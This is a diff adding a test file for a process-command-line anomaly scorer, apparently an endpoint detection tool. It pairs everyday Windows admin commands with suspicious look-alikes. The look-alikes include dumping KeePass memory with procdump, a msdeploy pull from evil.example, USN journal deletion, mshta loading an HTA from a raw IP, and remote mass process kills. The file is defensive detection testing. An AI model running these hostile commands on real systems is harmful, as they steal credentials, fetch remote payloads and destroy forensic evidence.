@@ -1,0 +1,159 @@
+import { describe, expect, test } from 'vitest'
+import { scored } from '@/fixtures/detection/score-lines'
+import { exampleSignature } from '@/lib/pipeline/deviation/example-signature'
+import { assessRisk } from '@/lib/pipeline/deviation/risk'
+
+const DEVIATION = 4
+
+describe('what everybody does is no deviation by itself, what looks like it is one', () => {
+  test.each([
+    [
+      'Office calls the web through a library of Windows',
+      String.raw`rundll32.exe ¦ "C:\Windows\System32\rundll32.exe" "C:\Windows\System32\WININET.dll",DispatchAPICall 1 ¦ outlook.exe`,
+      String.raw`rundll32.exe ¦ "C:\Windows\System32\rundll32.exe" "C:\ProgramData\WININET.dll",DispatchAPICall 1 ¦ outlook.exe`,
+    ],
+    [
+      'an attachment of a kind that has no program',
+      String.raw`rundll32.exe ¦ "C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,OpenAs_RunDLL C:\Users\ann\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\AB12\order.edi ¦ outlook.exe`,
+      String.raw`rundll32.exe ¦ "C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,OpenAs_RunDLL C:\Users\ann\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\AB12\order.hta ¦ outlook.exe`,
+    ],
+    [
+      'a template repairs its add-in',
+      String.raw`regsvr32.exe ¦ regsvr32.exe /s "C:\Program Files\Archive\Template.dll" ¦ winword.exe`,
+      String.raw`regsvr32.exe ¦ regsvr32.exe /s "C:\ProgramData\Archive\Template.dll" ¦ winword.exe`,
+    ],
+    [
+      "servicing registers Windows' own provider",
+      String.raw`register-cimprovider.exe ¦ Register-CimProvider.exe -Namespace Root/StandardCimv2 -ProviderName NetTCPIP -Path "C:\Windows\system32\wbem\NetTCPIP.dll" -Impersonation True ¦ tiworker.exe ¦ SYSTEM`,
+      String.raw`register-cimprovider.exe ¦ Register-CimProvider.exe -Namespace Root/StandardCimv2 -ProviderName NetTCPIP -Path "C:\Windows\system32\wbem\NetTCPIP.dll" -Impersonation True ¦ cmd.exe ¦ SYSTEM`,
+    ],
+    [
+      "a printer's driver that deployment unpacked",
+      String.raw`rundll32.exe ¦ rundll32 printui.dll,PrintUIEntry /if /b "Label1" /f "C:\Windows\Temp\Label\label.inf" /r "IP_192.0.2.30" /m "Label 203dpi" ¦ cmd.exe ¦ SYSTEM`,
+      String.raw`rundll32.exe ¦ rundll32 C:\Windows\Temp\Label\printui.dll,PrintUIEntry /if ¦ cmd.exe ¦ SYSTEM`,
+    ],
+    [
+      'Windows installs a device by the driver that it has stored',
+      String.raw`rundll32.exe ¦ C:\Windows\system32\rundll32.exe setupapi,InstallHinfSection DefaultInstall 132 C:\Windows\System32\DriverStore\FileRepository\audio.inf_amd64_6ff1a2b3c4d5e6f7\audio.inf ¦ drvinst.exe ¦ SYSTEM`,
+      String.raw`rundll32.exe ¦ rundll32.exe setupapi,InstallHinfSection DefaultInstall 132 C:\Users\Public\audio.inf ¦ drvinst.exe ¦ SYSTEM`,
+    ],
+    [
+      'a package installs its service, with the log of the package alone',
+      String.raw`installutil.exe ¦ InstallUtil.exe /LogFile= /LogToConsole=false "C:\Program Files\Planner\Service.exe" ¦ msiexec.exe ¦ SYSTEM`,
+      String.raw`installutil.exe ¦ InstallUtil.exe /LogFile= /LogToConsole=false "C:\Program Files\Planner\Service.exe" ¦ cmd.exe ¦ SYSTEM`,
+    ],
+    [
+      'a script in the folder beside that of its batch file',
+      String.raw`cscript.exe ¦ cscript.exe //nologo ..\bin\query.vbs corp.example ¦ cmd.exe`,
+      String.raw`cscript.exe ¦ cscript.exe //nologo ..\..\..\Public\query.jse corp.example ¦ cmd.exe`,
+    ],
+    [
+      "the page of an old program's properties that tries it in another mode",
+      String.raw`pcwrun.exe ¦ "C:\Windows\System32\pcwrun.exe" "C:\Legacy\Plant\plant.exe" CompatTab ¦ explorer.exe`,
+      String.raw`pcwrun.exe ¦ "C:\Windows\System32\pcwrun.exe" "C:\Legacy\Plant\plant.exe" ¦ explorer.exe`,
+    ],
+    [
+      "a notice that a group policy shows from the domain's share",
+      String.raw`mshta.exe ¦ "C:\Windows\System32\mshta.exe" "\\corp\NETLOGON\info\drill.hta" ¦ gpscript.exe`,
+      String.raw`mshta.exe ¦ "C:\Windows\System32\mshta.exe" "\\203.0.113.9\info\drill.hta" ¦ gpscript.exe`,
+    ],
+    [
+      'a site is deployed to its server',
+      String.raw`msdeploy.exe@C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe ¦ msdeploy.exe -verb:sync -source:contentPath="C:\out\site.zip" -dest:contentPath="Default Web Site/app",ComputerName="https://192.0.2.240:8172/msdeploy.axd",UserName=deploy,Password=x,AuthType=Basic ¦ cmd.exe`,
+      String.raw`msdeploy.exe@C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe ¦ msdeploy.exe -verb:sync -source:package="http://evil.example/site.zip" -dest:contentPath="Default Web Site/app" ¦ cmd.exe`,
+    ],
+    [
+      'a product that lies three folders deep is registered',
+      String.raw`regsvr32.exe ¦ regsvr32 "D:\Office\PDF Maker\Add-ins\x64\Maker.dll" ¦ cmd.exe`,
+      String.raw`regsvr32.exe ¦ regsvr32 "D:\Office\Maker.dll" ¦ cmd.exe`,
+    ],
+    [
+      'a developer takes back what was built',
+      String.raw`installutil.exe ¦ InstallUtil.exe /u bin\Debug\Mailer.exe ¦ cmd.exe`,
+      String.raw`installutil.exe ¦ InstallUtil.exe /u temp\Mailer.exe ¦ cmd.exe`,
+    ],
+    [
+      'a process that hangs is dumped by its number',
+      'procdump.exe ¦ procdump -accepteula -ma 6248 ¦ cmd.exe',
+      'procdump.exe ¦ procdump -accepteula -ma KeePass.exe ¦ cmd.exe',
+    ],
+    [
+      'the same by who sits at the host, and by who does not',
+      'procdump.exe ¦ procdump -accepteula -ma 6248 ¦ powershell.exe',
+      'procdump.exe ¦ procdump -accepteula -ma 6248 ¦ wsmprovhost.exe',
+    ],
+    [
+      'a library is registered from where a guide had it copied to',
+      'regsvr32.exe ¦ regsvr32 viewer.ocx ¦ cmd.exe',
+      'regsvr32.exe ¦ regsvr32 viewer.ocx ¦ explorer.exe',
+    ],
+    [
+      'what hangs is ended here, and on every host of a list',
+      `wmic.exe ¦ wmic process where "name like '%java%'" delete ¦ cmd.exe`,
+      `wmic.exe ¦ wmic /node:@hosts.txt /failfast:on process where "CommandLine Like '%sql%'" delete ¦ cmd.exe`,
+    ],
+    [
+      'links to a file are listed',
+      String.raw`fsutil.exe ¦ fsutil hardlink list tools\bin\pkg.exe ¦ cmd.exe`,
+      'fsutil.exe ¦ fsutil usn deletejournal /D C: ¦ cmd.exe',
+    ],
+    [
+      'what is sent in the background is listed, and disguised',
+      'bitsadmin.exe ¦ bitsadmin /list /allusers ¦ -',
+      'bitsadmin.exe ¦ bitsadmin /setcustomheaders job User-Agent:curl ¦ -',
+    ],
+    [
+      'a compiler compiles, and writes down passwords',
+      'vbc.exe ¦ vbc.exe /t:exe report.vb ¦ -',
+      String.raw`vbc.exe ¦ vbc.exe /stext "%TEMP%\holder.txt" ¦ -`,
+    ],
+    [
+      'a script is told its language by its name, and against it',
+      String.raw`wscript.exe ¦ wscript.exe "C:\Program Files\Vendor\sync.vbs" //e:vbscript //b ¦ -`,
+      String.raw`wscript.exe ¦ wscript.exe "C:\Users\ann\AppData\Local\Temp\ricecake" //e:vbscript //b ¦ -`,
+    ],
+    [
+      'scripts that everybody can read, and that nobody shall',
+      'cscript.exe ¦ cscript.exe .\\drop.vbs ¦ -',
+      'cscript.exe ¦ cscript.exe .\\drop.vbe ¦ -',
+    ],
+    [
+      'the compatibility assistant, of what was downloaded and of what hides',
+      String.raw`pcalua.exe ¦ pcalua.exe -a "C:\Users\ann\Downloads\Config.exe" -c -q ¦ explorer.exe`,
+      String.raw`pcalua.exe ¦ pcalua.exe -a "C:\Users\ann\AppData\Roaming\Ink\ink.exe" -c -q ¦ explorer.exe`,
+    ],
+    [
+      "every edition of SQL Server's PowerShell, and a copy of it",
+      String.raw`sqlps.exe@C:\Program Files (x86)\Microsoft SQL Server\160\Tools\Binn\SQLPS.exe ¦ SQLPS.exe -NoLogo -Command "[Console]::Out.Write('')" ¦ sqlagent.exe`,
+      String.raw`sqlps.exe@C:\ProgramData\Binn\SQLPS.exe ¦ SQLPS.exe -NoLogo -Command "[Console]::Out.Write('')" ¦ sqlagent.exe`,
+    ],
+  ])('%s', (_, everyday, alike) => {
+    const [quiet, loud] = [scored(everyday), scored(alike)]
+    expect(quiet.bits, quiet.codes.join(' ')).toBeLessThan(DEVIATION)
+    expect(loud.bits, loud.codes.join(' ')).toBeGreaterThanOrEqual(DEVIATION)
+  })
+})
+
+test('an inventory that an installed agent has a shell take asks less than a person or a script does', () => {
+  const asked = (lineage: string, user: string) =>
+    assessRisk(
+      exampleSignature({
+        slug: 'wmic.exe',
+        parentName: 'cmd.exe',
+        facts: ['asks-for-defence'],
+        features: { lineage, user },
+      }),
+      {},
+    ).millibits
+  const agent = asked('agent.exe @ program-files > cmd.exe @ system', 'system, system')
+  expect(agent).toBeLessThan(DEVIATION * 1000)
+  expect(asked('explorer.exe @ windows > cmd.exe @ system', 'standard user, medium')).toBeGreaterThan(agent)
+  expect(asked('agent.exe @ program-data > cmd.exe @ system', 'system, system')).toBeGreaterThan(agent)
+})
+
+test("what draws on every desktop is told what to draw by the domain's share, less than by any other", () => {
+  const own = scored(String.raw`bginfo.exe ¦ Bginfo.exe \\corp\NETLOGON\a.bgi /timer:0 ¦ cmd.exe`)
+  const another = scored(String.raw`bginfo.exe ¦ Bginfo.exe \\corp\Public\a.bgi /timer:0 ¦ cmd.exe`)
+  expect(own.bits).toBeLessThan(DEVIATION)
+  expect(another.bits).toBeGreaterThan(own.bits)
+})
